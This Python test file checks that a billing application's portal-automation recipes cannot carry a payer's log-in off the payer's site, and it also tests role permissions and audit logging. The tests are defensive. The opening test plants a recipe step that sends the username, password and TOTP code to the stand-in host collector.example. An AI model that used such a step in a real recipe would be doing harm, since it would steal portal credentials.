"""Recipes cannot carry the portal log-in off the payer's site (issue 10 #1): the checks
made when a recipe loads, and who may choose a payer's recipe."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.errors import PermissionDenied
from app.identity import Session
from app.identity.permissions import Role
from app.services import patients
from app.services import portal_credentials as pc
from automations.portal import RecipeInvalid, builtin_recipes_dir, load_recipe_file, load_recipes
from automations.portal.recipes import origin_of

NORTHWIND = (builtin_recipes_dir() / "northwind.yaml").read_text("utf-8")
LOGIN_END = '  - expect: "#nw-signout"\n'


def _variant(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "northwind.yaml"
    path.write_text(text, "utf-8")
    return path


def test_the_probe_attack_fails_at_load(tmp_path: Path) -> None:
    """The probe's copy: a goto to an outside URL carrying the log-in and a TOTP code."""
    assert LOGIN_END in NORTHWIND
    attack = NORTHWIND.replace(LOGIN_END, LOGIN_END + '  - goto: "https://collector.example/'
                               'c?u={username}&p={password}&t={totp}"\n')
    with pytest.raises(RecipeInvalid) as err:
        load_recipe_file(_variant(tmp_path, attack))
    message = str(err.value)
    assert "login[7].goto" in message and "{username}" in message
    assert "only be the value of a 'fill' step" in message
    assert "\n" not in message  # one line


@pytest.mark.parametrize("line,key", [
    ('  - goto: "signin?p={password}"\n', "login[7].goto"),  # same site, but in a URL
    ('  - goto: "signin?code={totp}"\n', "login[7].goto"),
    ('  - select: {selector: "#x", value: "{password}"}\n', "login[7].select.value"),
])
def test_a_secret_outside_a_field_fill_is_refused(tmp_path: Path, line: str, key: str) -> None:
    with pytest.raises(RecipeInvalid, match=key.replace("[", r"\[").replace("]", r"\]")):
        load_recipe_file(_variant(tmp_path, NORTHWIND.replace(LOGIN_END, LOGIN_END + line)))


def test_secrets_in_vars_row_match_and_portal_url_are_refused(tmp_path: Path) -> None:
    with pytest.raises(RecipeInvalid, match="vars.leak"):
        load_recipe_file(_variant(tmp_path, NORTHWIND.replace(
            "kinds:\n", 'vars:\n  leak: "{password}"\nkinds:\n', 1)))
    with pytest.raises(RecipeInvalid, match="row.contains"):
        load_recipe_file(_variant(tmp_path, NORTHWIND.replace(
            'contains: "{reference}"', 'contains: "{totp}"', 1)))
    with pytest.raises(RecipeInvalid, match="portal.url: must not contain placeholders"):
        load_recipe_file(_variant(tmp_path, NORTHWIND.replace(
            "url: http://127.0.0.1:8765/northwind/", 'url: "http://127.0.0.1:8765/{username}/"')))


@pytest.mark.parametrize("target", ["https://elsewhere.example/x", "//elsewhere.example/x",
                                    "http://127.0.0.1:9999/northwind/", "ftp://x/"])
def test_a_goto_off_the_portals_origin_is_refused(tmp_path: Path, target: str) -> None:
    text = NORTHWIND.replace(LOGIN_END, LOGIN_END + f'  - goto: "{target}"\n')
    with pytest.raises(RecipeInvalid, match="leaves the portal's site"):
        load_recipe_file(_variant(tmp_path, text))


def test_same_origin_absolute_goto_and_the_bundled_recipes_load(tmp_path: Path) -> None:
    ok = NORTHWIND.replace(LOGIN_END, LOGIN_END
                           + '  - goto: "http://127.0.0.1:8765/northwind/home"\n')
    assert load_recipe_file(_variant(tmp_path, ok)).login[-1].action == "goto"
    book = load_recipes()
    assert {"northwind", "bluestem_medicaid"} <= set(book.names())


def test_origin_of() -> None:
    assert origin_of("HTTPS://Portal.Example.com:443/a?b") == "https://portal.example.com"
    assert origin_of("http://127.0.0.1:8765/northwind/") == "http://127.0.0.1:8765"
    assert origin_of("javascript:alert(1)") == "" and origin_of("data:,x") == ""


def test_only_owner_or_office_manager_choose_a_payers_recipe(practice) -> None:  # type: ignore[no-untyped-def]
    biller = Session(practice.vault, "bill", frozenset({Role.BILLER}))
    manager = Session(practice.vault, "meg", frozenset({Role.OFFICE_MANAGER}))
    acme = patients.find_payer(practice, "Acme Health")
    with pytest.raises(PermissionDenied, match="portal.configure"):
        patients.update_payer(biller, acme.id, portal_recipe="northwind")
    with pytest.raises(PermissionDenied, match="portal.configure"):
        patients.add_payer(biller, "Other", "commercial", portal_recipe="northwind")
    with pytest.raises(PermissionDenied, match="portal.configure"):
        pc.set_recipe(biller, acme.id, "northwind")
    patients.update_payer(biller, acme.id, appeal_window_days=90)  # billing data: fine
    assert pc.set_recipe(manager, acme.id, "northwind").portal_recipe == "northwind"
    row = practice.vault.query_one("SELECT actor, details FROM audit_log WHERE action = "
                                   "'portal.recipe.set' ORDER BY id DESC LIMIT 1")
    assert row[0] == "meg" and '"after": "northwind"' in row[1]
    denied = practice.vault.query("SELECT details FROM audit_log WHERE actor = 'bill' AND "
                                  "action = 'permission.denied'")
    assert len(denied) == 3


def test_the_portal_address_is_set_by_managers_and_audited_with_its_origin(practice) -> None:  # type: ignore[no-untyped-def]
    front = Session(practice.vault, "fran", frozenset({Role.FRONT_DESK}))
    with pytest.raises(PermissionDenied):
        pc.set_credentials(front, "Acme Health", url="https://evil.example/", username="u",
                           password="p")
    pc.set_credentials(practice, "Acme Health", url="https://portal.acme.example/hub/",
                       username="u", password="secret-pw")
    row = practice.vault.query_one("SELECT details FROM audit_log WHERE action = "
                                   "'portal.credentials.set' ORDER BY id DESC LIMIT 1")
    assert '"origin": "https://portal.acme.example"' in row[0] and "secret-pw" not in row[0]


def _engine_payer(practice, url: str = "http://127.0.0.1:9/northwind/"):  # type: ignore[no-untyped-def]
    acme = patients.find_payer(practice, "Acme Health")
    pc.set_recipe(practice, acme.id, "northwind")
    pc.set_enabled(practice, acme.id, True)
    pc.set_credentials(practice, acme.id, url=url, username="u", password="secret-pw")
    return acme


def test_recipe_test_with_another_file_needs_portal_configure(practice, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Refused before any browser starts (no Chromium needed here)."""
    from automations.portal import PortalEngine, PortalQuery
    acme = _engine_payer(practice)
    front = Session(practice.vault, "fran", frozenset({Role.FRONT_DESK}))
    copy = load_recipe_file(_variant(tmp_path, NORTHWIND.replace("version: 1", "version: 2")))
    with PortalEngine(min_interval_seconds=0) as engine:
        with pytest.raises(PermissionDenied, match="portal.configure"):
            engine.check(front, acme.id, "pa_status", PortalQuery("M1", "R1"), recipe=copy)
    assert engine.launches == 0
    row = practice.vault.query_one("SELECT details FROM audit_log WHERE actor = 'fran' AND "
                                   "action = 'permission.denied'")
    assert '"recipe": "northwind"' in row[0]


def test_a_file_for_another_host_never_gets_the_payers_log_in(practice, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from automations.portal import OffSiteRefused, PortalEngine, PortalQuery
    acme = _engine_payer(practice)
    other = load_recipe_file(_variant(tmp_path, NORTHWIND.replace(
        "url: http://127.0.0.1:8765/northwind/", "url: https://collector.example/northwind/")))
    with PortalEngine(min_interval_seconds=0) as engine:
        with pytest.raises(OffSiteRefused, match="collector.example"):
            engine.check(practice, acme.id, "pa_status", PortalQuery("M1", "R1"),
                         recipe=other)
    assert engine.launches == 0
    row = practice.vault.query_one("SELECT details FROM audit_log WHERE action = "
                                   "'portal.visit' ORDER BY id DESC LIMIT 1")
    assert '"outcome": "off_site_blocked"' in row[0] and "secret-pw" not in row[0]


def test_cli_portal_recipe_sets_an_installed_recipe_only(  # type: ignore[no-untyped-def]
        practice, vault_dir: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    import io

    from tests.conftest import OWNER_PASSWORD
    from ui.cli import main
    monkeypatch.setenv("OFFHOLD_VAULT", str(vault_dir))
    monkeypatch.setenv("OFFHOLD_USER", "owner")
    monkeypatch.setenv("OFFHOLD_PASSWORD", OWNER_PASSWORD)
    assert main(["portal", "recipe", "Acme Health", "nosuch"], stdin=io.StringIO("")) == 1
    assert "no portal recipe named 'nosuch'; known: " in capsys.readouterr().err
    assert main(["portal", "recipe", "Acme Health", "northwind"], stdin=io.StringIO("")) == 0
    assert "Acme Health uses recipe northwind" in capsys.readouterr().out
    assert patients.find_payer(practice, "Acme Health").portal_recipe == "northwind"
    assert main(["portal", "recipe", "Acme Health", "none"], stdin=io.StringIO("")) == 0
    assert patients.find_payer(practice, "Acme Health").portal_recipe is None


def test_an_installed_recipe_on_plain_http_never_gets_the_log_in(practice, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """With no address on the payer the installed recipe's portal.url is the origin; like
    the payer's own URL it must be https (http only on this machine), or the password
    would cross the network in the clear."""
    from automations.portal import OffSiteRefused, PortalEngine, PortalQuery
    acme = _engine_payer(practice, url="")
    folder = tmp_path / "recipes"
    folder.mkdir()
    (folder / "northwind.yaml").write_text(NORTHWIND.replace(
        "url: http://127.0.0.1:8765/northwind/", "url: http://portal.acme.example/nw/"),
        "utf-8")
    with PortalEngine(recipes=load_recipes([folder]), min_interval_seconds=0) as engine:
        with pytest.raises(OffSiteRefused, match="must use https"):
            engine.check(practice, acme.id, "pa_status", PortalQuery("M1", "R1"))
    assert engine.launches == 0


def test_a_recipe_file_is_stored_as_it_was_checked(practice, tmp_path: Path,  # type: ignore[no-untyped-def]
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """One read: a second one (to store it) could find another file than the one checked,
    and put an unchecked recipe in the book."""
    from automations.portal.install import set_payer_recipe
    acme = patients.find_payer(practice, "Acme Health")
    path = _variant(tmp_path, NORTHWIND.replace("version: 1", "version: 3"))
    real = Path.read_text

    def once(self: Path, *args, **kwargs) -> str:  # type: ignore[no-untyped-def]
        assert self != path, "the recipe file was read a second time"
        return real(self, *args, **kwargs)
    monkeypatch.setattr(Path, "read_text", once)
    set_payer_recipe(practice, acme.id, str(path))
    monkeypatch.undo()
    stored = practice.vault.directory / "recipes" / "northwind.yaml"
    assert stored.read_text("utf-8") == path.read_text("utf-8")
